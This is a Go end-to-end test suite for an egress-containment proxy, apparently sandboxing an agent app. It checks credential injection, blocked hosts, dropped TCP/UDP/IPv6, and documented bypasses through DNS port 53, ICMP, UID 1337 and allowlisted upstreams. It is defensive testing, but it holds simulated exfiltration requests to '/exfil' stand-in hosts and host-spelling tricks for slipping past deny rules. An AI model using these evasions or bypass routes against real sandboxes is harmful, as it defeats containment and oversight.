package e2e

import (
	"net/http"
	"net/netip"
	"slices"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"

	"github.com/botbox/botbox/test/e2e/internal/wire"
)

// apiKeyPod starts a pod with rulesDefault and a fresh api-key secret and
// returns it with the secret's value.
func apiKeyPod(t *testing.T, cfg podConfig) (*pod, string) {
	t.Helper()
	key := "sk-e2e-" + randomHex(t, 12)
	cfg.secrets = map[string]string{"api-key": key}
	return newPod(t, cfg), key
}

// An allowed http:// request reaches the origin over TLS on 443 with the
// credential injected exactly once; the app's own Authorization values are
// gone, other headers and the body pass unchanged.
func TestAllowedHTTPInjectsCredentialOverTLS(t *testing.T) {
	t.Parallel()
	forEachBackend(t, testAllowedHTTPInjectsCredentialOverTLS)
}

func testAllowedHTTPInjectsCredentialOverTLS(t *testing.T, backend string) {
	p, key := apiKeyPod(t, podConfig{backend: backend, ipv6: true})
	mark := p.mark(t)
	r := p.app(t, "http", "-url", "http://api.example.test/v1/models?limit=1", "-method", "POST", "-data", `{"q":1}`,
		"-H", "Authorization: Bearer app-own-token",
		"-H", "Authorization: Basic YXBwOnNtdWdnbGVk",
		"-H", "X-App-Header: kept")
	if r.Status != http.StatusOK || r.Echo == nil {
		t.Fatalf("POST http://api.example.test/v1/models: status %d body %q error %q, want 200 from the origin", r.Status, r.Body, r.Error)
	}
	ev := p.httpEvent(t, mark, "/v1/models")
	got := struct {
		TLS           bool
		Port          int
		SNI, Host     string
		Method, Body  string
		Authorization []string
		AppHeader     []string
	}{ev.TLS, ev.Port, ev.SNI, ev.Host, ev.Method, ev.Body, ev.Header["Authorization"], ev.Header["X-App-Header"]}
	want := got
	want.TLS, want.Port, want.SNI, want.Host = true, 443, hostAPI, hostAPI
	want.Method, want.Body = http.MethodPost, `{"q":1}`
	want.Authorization = []string{"Bearer " + key}
	want.AppHeader = []string{"kept"}
	if d := cmp.Diff(want, got); d != "" {
		t.Errorf("request as the origin saw it (-want +got):\n%s", d)
	}
	if remote(ev).Addr() != p.podIP4 {
		t.Errorf("origin request came from %s, want the pod %s", ev.Remote, p.podIP4)
	}
}

// A denied host gets 403 and the origin sees nothing: an explicit deny
// rule, a host without a rule, the origin's IP literal, and an explicit
// proxy CONNECT tunnel (405).
func TestDeniedHostOriginSeesNothing(t *testing.T) {
	t.Parallel()
	forEachBackend(t, testDeniedHostOriginSeesNothing)
}

func testDeniedHostOriginSeesNothing(t *testing.T, backend string) {
	p, _ := apiKeyPod(t, podConfig{backend: backend, ipv6: true})
	for _, url := range []string{
		"http://blocked.example.test/exfil",
		"http://other.example.test/exfil",
		"http://" + p.netIP4.String() + "/exfil",
		"http://[" + p.netIP6.String() + "]/exfil",
	} {
		t.Run(url, func(t *testing.T) {
			mark := p.mark(t)
			assertStatus(t, "GET "+url, p.app(t, "http", "-url", url, "-data", "stolen"), http.StatusForbidden, "host not allowed")
			p.assertNoTCP(t, mark, p.addr4(443))
			p.assertNoTCP(t, mark, p.addr6(443))
		})
	}
	t.Run("CONNECT", func(t *testing.T) {
		mark := p.mark(t)
		r := p.app(t, "raw", "-addr", "127.0.0.1:8080", "-data", "CONNECT api.example.test:443 HTTP/1.1\r\nHost: api.example.test:443\r\n\r\n")
		// The reference's body, then BotBox's one-line hint.
		assertStatus(t, "CONNECT api.example.test:443", r, http.StatusMethodNotAllowed, "CONNECT method not allowed\nuse http:// URLs or enable HTTPS interception")
		p.assertNoTCP(t, mark, p.addr4(443))
	})
}

// A deny rule cannot be sidestepped by spelling the host differently, even
// under default_action: allow (the reference's raw string match let
// "blocked.com." and "x@blocked.com" through, reference §10.3 #3).
func TestDenyRuleHoldsUnderDefaultAllow(t *testing.T) {
	t.Parallel()
	forEachBackend(t, testDenyRuleHoldsUnderDefaultAllow)
}

func testDenyRuleHoldsUnderDefaultAllow(t *testing.T, backend string) {
	p, _ := apiKeyPod(t, podConfig{backend: backend, defaultAllow: true})
	transparent := p.addr4(80).String() // redirected to BotBox
	cases := []struct{ name, addr, target, host string }{
		{"Host exact", transparent, "/exfil", "blocked.example.test"},
		{"Host case", transparent, "/exfil", "BLOCKED.Example.TEST"},
		{"Host trailing dot", transparent, "/exfil", "blocked.example.test."},
		{"Host with :443", transparent, "/exfil", "blocked.example.test:443"},
		{"Host with userinfo", transparent, "/exfil", "x@blocked.example.test"},
		{"Host fullwidth IDNA", transparent, "/exfil", "ｂｌｏｃｋｅｄ.example.test"},
		{"Host trailing tab", transparent, "/exfil", "blocked.example.test\t"},
		{"absolute-form trailing dot", "127.0.0.1:8080", "http://blocked.example.test./exfil", hostOther},
		{"absolute-form userinfo", "127.0.0.1:8080", "http://x@blocked.example.test/exfil", hostOther},
		{"absolute-form case and port", "127.0.0.1:8080", "http://BLOCKED.example.test:443/exfil", hostOther},
	}
	for _, tt := range cases {
		t.Run(tt.name, func(t *testing.T) {
			mark := p.mark(t)
			r := p.app(t, "raw", "-addr", tt.addr,
				"-data", "GET "+tt.target+" HTTP/1.1\r\nHost: "+tt.host+"\r\nConnection: close\r\n\r\n")
			if r.Status != http.StatusForbidden && r.Status != http.StatusBadRequest {
				t.Errorf("GET %s Host %q: status %d body %q, want 403 or 400", tt.target, tt.host, r.Status, r.Body)
			}
			p.assertNoTCP(t, mark, p.addr4(443))
		})
	}
	// Sanity: default allow does forward an unlisted host (without
	// credentials), so the denials above are the deny rule's doing.
	mark := p.mark(t)
	r := p.app(t, "http", "-url", "http://other.example.test/default", "-H", "Authorization: Bearer app-own")
	if r.Status != http.StatusOK {
		t.Fatalf("GET http://other.example.test/ under default allow: %d %q", r.Status, r.Body)
	}
	if ev := p.httpEvent(t, mark, "/default"); !slices.Equal(ev.Header["Authorization"], []string{"Bearer app-own"}) {
		t.Errorf("default-allowed request carried Authorization %q, want the app's own only", ev.Header["Authorization"])
	}
}

// Direct TCP from the app to the origin's other ports, and to 443 in
// HTTP-only mode, gets no connection.
func TestDirectTCPDropped(t *testing.T) {
	t.Parallel()
	forEachBackend(t, testDirectTCPDropped)
}

func testDirectTCPDropped(t *testing.T, backend string) {
	p, _ := apiKeyPod(t, podConfig{backend: backend, ipv6: true})
	for _, port := range []uint16{443, 8443, 22} {
		dst := p.addr4(port)
		t.Run(dst.String(), func(t *testing.T) {
			mark := p.mark(t)
			assertNoConnection(t, "connect "+dst.String(), p.app(t, "tcp", "-addr", dst.String()))
			p.assertNoTCP(t, mark, dst)
		})
	}
}

// UDP from the app (443: the QUIC stand-in; 9999: any other port) never
// arrives.
func TestUDPDropped(t *testing.T) {
	t.Parallel()
	forEachBackend(t, testUDPDropped)
}

func testUDPDropped(t *testing.T, backend string) {
	p, _ := apiKeyPod(t, podConfig{backend: backend, ipv6: true})
	for _, dst := range []netip.AddrPort{p.addr4(443), p.addr4(9999)} {
		t.Run(dst.String(), func(t *testing.T) {
			mark := p.mark(t)
			p.app(t, "udp", "-addr", dst.String(), "-payload", "exfil-"+randomHex(t, 4))
			p.assertNoUDP(t, mark, dst)
		})
	}
}

// Port 53 is the reference's deliberate hole: open to any destination by
// default. BOTBOX_DNS_SERVERS narrows it to the given resolvers (per family;
// a family without one gets no port-53 exemption).
func TestDNSPort53(t *testing.T) {
	t.Parallel()
	forEachBackend(t, testDNSPort53)
}

func testDNSPort53(t *testing.T, backend string) {
	t.Run("default: open to any destination", func(t *testing.T) {
		p, _ := apiKeyPod(t, podConfig{backend: backend, ipv6: true})
		for _, dst := range []netip.AddrPort{netip.AddrPortFrom(p.netIP4b, 53), p.addr6(53)} {
			mark := p.mark(t)
			token := "dns-" + randomHex(t, 4)
			p.app(t, "udp", "-addr", dst.String(), "-payload", token)
			p.waitEvents(t, mark, "datagram to "+dst.String(), func(evs []wire.Event) bool {
				return slices.ContainsFunc(evs, func(e wire.Event) bool { return e.Payload == token && e.LocalAddrPort() == dst })
			})
		}
		t.Logf("documented: with BOTBOX_DNS_SERVERS unset, UDP/TCP 53 reaches any address (reference §8.3, §10.3 #18)")
	})
	t.Run("BOTBOX_DNS_SERVERS restricts it", func(t *testing.T) {
		p, _ := apiKeyPod(t, podConfig{backend: backend, ipv6: true, installEnv: func(p *pod) []string {
			return []string{"BOTBOX_DNS_SERVERS=" + p.netIP4.String()}
		}})
		resolver := netip.AddrPortFrom(p.netIP4, 53)
		mark := p.mark(t)
		token := "dns-" + randomHex(t, 4)
		p.app(t, "udp", "-addr", resolver.String(), "-payload", token)
		p.waitEvents(t, mark, "datagram to the resolver "+resolver.String(), func(evs []wire.Event) bool {
			return slices.ContainsFunc(evs, func(e wire.Event) bool { return e.Payload == token })
		})
		if r := p.app(t, "tcp", "-addr", resolver.String()); !r.Connected {
			t.Errorf("TCP to the resolver %s: %s, want connected", resolver, r.Error)
		}
		for _, dst := range []netip.AddrPort{netip.AddrPortFrom(p.netIP4b, 53), p.addr6(53)} {
			mark := p.mark(t)
			p.app(t, "udp", "-addr", dst.String(), "-payload", "dns-exfil")
			p.assertNoUDP(t, mark, dst)
			assertNoConnection(t, "TCP "+dst.String(), p.app(t, "tcp", "-addr", dst.String()))
			p.assertNoTCP(t, mark, dst)
		}
	})
}

// With BOTBOX_ENABLE_IPV6=1, IPv6 from the app is redirected to BotBox
// (http:// to an IPv6-only name works, with the credential injected) or
// dropped (direct TCP and UDP), never direct.
func TestIPv6Redirected(t *testing.T) {
	t.Parallel()
	forEachBackend(t, testIPv6Redirected)
}

func testIPv6Redirected(t *testing.T, backend string) {
	p, key := apiKeyPod(t, podConfig{backend: backend, ipv6: true})
	t.Run("http:// to an IPv6-only name goes through BotBox", func(t *testing.T) {
		mark := p.mark(t)
		r := p.app(t, "http", "-url", "http://v6.example.test/v6", "-H", "Authorization: Bearer app-own")
		if r.Status != http.StatusOK {
			t.Fatalf("GET http://v6.example.test/v6: status %d body %q error %q", r.Status, r.Body, r.Error)
		}
		ev := p.httpEvent(t, mark, "/v6")
		if !ev.IPv6 || !ev.TLS || ev.Port != 443 || !slices.Equal(ev.Header["Authorization"], []string{"Bearer " + key}) {
			t.Errorf("origin saw ipv6=%v tls=%v port=%d Authorization=%q, want IPv6 TLS 443 with the injected key", ev.IPv6, ev.TLS, ev.Port, ev.Header["Authorization"])
		}
		if remote(ev).Addr() != p.podIP6 {
			t.Errorf("origin request came from %s, want the pod %s", ev.Remote, p.podIP6)
		}
	})
	for _, port := range []uint16{443, 8443, 22} {
		dst := p.addr6(port)
		t.Run("tcp "+dst.String(), func(t *testing.T) {
			mark := p.mark(t)
			assertNoConnection(t, "connect "+dst.String(), p.app(t, "tcp", "-addr", dst.String()))
			p.assertNoTCP(t, mark, dst)
		})
	}
	for _, port := range []uint16{443, 9999} {
		dst := p.addr6(port)
		t.Run("udp "+dst.String(), func(t *testing.T) {
			mark := p.mark(t)
			p.app(t, "udp", "-addr", dst.String(), "-payload", "exfil")
			p.assertNoUDP(t, mark, dst)
		})
	}
}

// With BOTBOX_ENABLE_IPV6=0 the IPv6 bypass the reference documents exists:
// the app reaches the origin directly over IPv6, its own credential intact
// and nothing injected. Asserted so the documentation stays honest; IPv4
// stays contained.
func TestIPv6BypassWhenDisabled(t *testing.T) {
	t.Parallel()
	forEachBackend(t, testIPv6BypassWhenDisabled)
}

func testIPv6BypassWhenDisabled(t *testing.T, backend string) {
	p, key := apiKeyPod(t, podConfig{backend: backend, ipv6: false})
	mark := p.mark(t)
	r := p.app(t, "http", "-url", "http://v6.example.test/bypass", "-H", "Authorization: Bearer app-own")
	if r.Status != http.StatusOK {
		t.Fatalf("GET http://v6.example.test/bypass with IPv6 rules off: status %d error %q, want the origin's 200 (the documented bypass)", r.Status, r.Error)
	}
	ev := p.httpEvent(t, mark, "/bypass")
	if !ev.IPv6 || ev.TLS || ev.Port != 80 || remote(ev).Addr() != p.podIP6 {
		t.Errorf("origin saw ipv6=%v tls=%v port=%d from %s, want the app's plain HTTP on [%s]:80 from %s", ev.IPv6, ev.TLS, ev.Port, ev.Remote, p.netIP6, p.podIP6)
	}
	if got := ev.Header["Authorization"]; !slices.Equal(got, []string{"Bearer app-own"}) || strings.Contains(strings.Join(got, ""), key) {
		t.Errorf("bypass request carried Authorization %q, want only the app's own", got)
	}
	if r := p.app(t, "tcp", "-addr", p.addr6(8443).String()); !r.Connected {
		t.Errorf("direct TCP to %s with IPv6 rules off: %s, want connected (the documented bypass)", p.addr6(8443), r.Error)
	}
	mark = p.mark(t)
	assertNoConnection(t, "IPv4 direct TCP to 8443", p.app(t, "tcp", "-addr", p.addr4(8443).String()))
	p.assertNoTCP(t, mark, p.addr4(8443))
	t.Logf("documented risk: BOTBOX_ENABLE_IPV6=0 leaves IPv6 egress uncontrolled (reference §10.1)")
}

// A process running as BotBox's UID (1337) is exempt from every rule: it
// reaches the origin directly. This is the reference's documented risk (the
// app must never run as 1337), asserted so that it cannot change silently.
func TestUID1337IsExempt(t *testing.T) {
	t.Parallel()
	forEachBackend(t, testUID1337IsExempt)
}

func testUID1337IsExempt(t *testing.T, backend string) {
	p, key := apiKeyPod(t, podConfig{backend: backend, ipv6: true})
	mark := p.mark(t)
	r := p.client(t, uidBotBox, "http", "-url", "https://api.example.test:8443/direct", "-cacert", p.originCA)
	if r.Status != http.StatusOK {
		t.Fatalf("UID 1337 GET https://api.example.test:8443/direct: status %d error %q, want the origin's 200", r.Status, r.Error)
	}
	ev := p.httpEvent(t, mark, "/direct")
	if ev.Port != 8443 || len(ev.Header["Authorization"]) != 0 {
		t.Errorf("origin saw port %d Authorization %q, want 8443 and no injected credential (BotBox not involved)", ev.Port, ev.Header["Authorization"])
	}
	_ = key
	for _, dst := range []netip.AddrPort{p.addr4(22), p.addr6(8443)} {
		if r := p.client(t, uidBotBox, "tcp", "-addr", dst.String()); !r.Connected {
			t.Errorf("UID 1337 connect %s: %s, want connected", dst, r.Error)
		}
	}
	token := "uid1337-" + randomHex(t, 4)
	p.client(t, uidBotBox, "udp", "-addr", p.addr4(9999).String(), "-payload", token)
	p.waitEvents(t, mark, "UID 1337 datagram", func(evs []wire.Event) bool {
		return slices.ContainsFunc(evs, func(e wire.Event) bool { return e.Payload == token })
	})
	// The same from the app is dropped.
	mark = p.mark(t)
	assertNoConnection(t, "UID 1000 connect :8443", p.app(t, "tcp", "-addr", p.addr4(8443).String()))
	p.assertNoTCP(t, mark, p.addr4(8443))
	t.Logf("documented risk: UID %d bypasses the init rules; the app must never run as it", uidBotBox)
}

// Exfiltration to, and token misuse against, an allowlisted upstream are not
// mitigated by a rule without routes (seed matrix rows 3 and 4): the body and
// any method reach the origin with the credential attached (routes close
// row 4: TestTokenScopedByRoutes). An upstream that reflects request
// headers no longer hands the credential to the agent: BotBox masks it in
// the response (issue 13, scrub_responses), while the origin still
// receives it. Asserted so the README's containment table stays honest.
func TestAllowlistedUpstreamNotContained(t *testing.T) {
	t.Parallel()
	forEachBackend(t, testAllowlistedUpstreamNotContained)
}

func testAllowlistedUpstreamNotContained(t *testing.T, backend string) {
	p, key := apiKeyPod(t, podConfig{backend: backend, ipv6: true})
	mark := p.mark(t)
	loot := "exfil-" + randomHex(t, 8)
	r := p.app(t, "http", "-url", "http://api.example.test/upload", "-method", "PUT", "-data", loot)
	if r.Status != http.StatusOK {
		t.Fatalf("PUT http://api.example.test/upload: %d %q", r.Status, r.Error)
	}
	ev := p.httpEvent(t, mark, "/upload")
	if ev.Body != loot || !slices.Equal(ev.Header["Authorization"], []string{"Bearer " + key}) {
		t.Errorf("origin got body %q Authorization %q, want the app's data with the injected credential", ev.Body, ev.Header["Authorization"])
	}
	r = p.app(t, "http", "-url", "http://api.example.test/repos/x", "-method", "DELETE")
	if r.Status != http.StatusOK {
		t.Errorf("DELETE with the injected credential: %d, want it forwarded (no method policy)", r.Status)
	}
	if r.Echo == nil || !slices.Equal(r.Echo.Headers["Authorization"], []string{"Bearer " + strings.Repeat("*", len(key))}) {
		t.Errorf("the echoing upstream's reflection reached the app as %q, want the credential masked", r.Body)
	}
	if strings.Contains(r.Body, key) {
		t.Errorf("the app saw the credential in the echo: %q", r.Body)
	}
	t.Logf("documented: an allowlisted upstream receives arbitrary data and actions with the credential; a reflecting upstream's echo reaches the app masked")
}

// ICMP is not filtered by default (reference §8.3: a tunnelling channel);
// BOTBOX_DROP_ICMP=1 drops it for the app, both families.
func TestICMP(t *testing.T) {
	t.Parallel()
	forEachBackend(t, testICMP)
}

func testICMP(t *testing.T, backend string) {
	for _, tt := range []struct {
		name  string
		drop  bool
		reply bool
	}{
		{"default: echo reaches the origin", false, true},
		{"BOTBOX_DROP_ICMP=1 drops it", true, false},
	} {
		t.Run(tt.name, func(t *testing.T) {
			cfg := podConfig{backend: backend, ipv6: true}
			if tt.drop {
				cfg.installEnv = func(*pod) []string { return []string{"BOTBOX_DROP_ICMP=1"} }
			}
			p, _ := apiKeyPod(t, cfg)
			// Let UID 1000 open unprivileged ping sockets in the pod.
			if _, errOut, code := p.run(t, p.podNS, uidRoot, nil, "sh", "-c", "echo 0 2147483647 >/proc/sys/net/ipv4/ping_group_range"); code != 0 {
				t.Fatalf("setting net.ipv4.ping_group_range: %s", errOut)
			}
			for _, dst := range []netip.Addr{p.netIP4, p.netIP6} {
				r := p.app(t, "ping", "-addr", dst.String())
				if tt.reply && !r.Connected {
					t.Errorf("ping %s: %s (%s), want a reply", dst, r.Error, r.ErrorKind)
				}
				if !tt.reply {
					assertNoConnection(t, "ping "+dst.String(), r)
				}
			}
			if !tt.drop {
				t.Logf("documented: without BOTBOX_DROP_ICMP, ICMP from the app is not filtered (reference §10.3 #18)")
			}
		})
	}
}
